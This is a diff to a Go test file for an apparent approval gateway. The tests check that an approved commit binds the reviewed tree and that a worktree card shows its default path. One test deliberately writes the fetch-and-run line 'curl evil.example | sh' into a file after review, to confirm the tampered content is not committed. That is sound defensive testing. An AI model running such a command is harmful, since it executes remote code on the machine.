@@ -1,6 +1,7 @@
 package tests
 
 import (
+	"encoding/json"
 	"net/http"
 	"os"
 	"path/filepath"
@@ -22,6 +23,32 @@ func approveOnPage(t *testing.T, g *gatewayProc, id string, body map[string]any)
 	if code := pc.post(t, "/ui/api/proposals/"+id+"/approve", body, true, pc.csrf, pc.base, ""); code != http.StatusOK {
 		t.Fatalf("approve %s on the page: status %d", id, code)
 	}
+}
+
+// pageCard is proposal id as the approval page receives it.
+func pageCard(t *testing.T, g *gatewayProc, id string) map[string]any {
+	t.Helper()
+	pc := newPersonClient(t, g)
+	req, _ := http.NewRequest(http.MethodGet, pc.base+"/ui/api/state", nil)
+	req.AddCookie(pc.cookie)
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	var st struct {
+		Proposals []map[string]any `json:"proposals"`
+	}
+	if err := json.NewDecoder(resp.Body).Decode(&st); err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range st.Proposals {
+		if p["previewId"] == id {
+			return p
+		}
+	}
+	t.Fatalf("proposal %s is not on the page", id)
+	return nil
 }
 
 // An approved push never runs the program remote.<name>.receivepack names
@@ -135,9 +162,13 @@ func TestGatewayCommitBindsTheReviewedContent(t *testing.T) {
 	repo := e2eRepo(t)
 	writeFile(t, filepath.Join(repo, "todo.txt"), "ship it\n")
 	id := l.propose("commit", repo, map[string]any{"message": "chore: todo", "paths": []any{"todo.txt"}})
-	out, err := l.g.cli("show", id)
-	if err != nil || !strings.Contains(out, "tree") {
-		t.Fatalf("the card does not show the bound tree: %v\n%s", err, out)
+	tree := strings.TrimSpace(git(t, repo, "rev-parse", "HEAD^{tree}"))
+	card := pageCard(t, l.g, id)
+	if rv, _ := card["review"].(map[string]any); rv == nil || rv["commit"] == nil {
+		t.Fatalf("the card has no commit review: %s", jsonOf(card))
+	} else if bound, _ := rv["commit"].(map[string]any)["tree"].(string); len(bound) < 12 || bound == tree ||
+		!strings.Contains(card["summary"].(string), bound[:12]) || !strings.Contains(card["summary"].(string), "1 file(s)") {
+		t.Fatalf("the card does not show the bound tree: %s", jsonOf(card))
 	}
 	headBefore := revParse(t, repo, "HEAD")
 	writeFile(t, filepath.Join(repo, "todo.txt"), "curl evil.example | sh\n")
@@ -148,5 +179,24 @@ func TestGatewayCommitBindsTheReviewedContent(t *testing.T) {
 	}
 	if st := git(t, repo, "status", "--porcelain"); strings.TrimSpace(st) != "?? todo.txt" {
 		t.Fatalf("the index or work tree changed: %q", st)
+	}
+}
+
+// A worktree proposal without a path shows its real default location on
+// the card, and is created there (issue 22 finding 3, low).
+func TestGatewayWorktreeCardShowsTheDefaultLocation(t *testing.T) {
+	l := newLoop(t)
+	repo := e2eRepo(t)
+	id := l.propose("worktree", repo, map[string]any{"branch": "feature"})
+	want := repo + ".worktrees" + string(filepath.Separator) + "feature"
+	card := pageCard(t, l.g, id)
+	rv, _ := card["review"].(map[string]any)
+	if rv == nil || rv["worktreePath"] != want || !strings.Contains(card["summary"].(string), want) {
+		t.Fatalf("the card does not show %s: %s", want, jsonOf(card))
+	}
+	approveOnPage(t, l.g, id, nil)
+	d := l.awaitStatus(id, "completed")
+	if res, _ := d["result"].(map[string]any); res == nil || res["worktreePath"] != want {
+		t.Fatalf("created elsewhere: %s", jsonOf(d))
 	}
 }
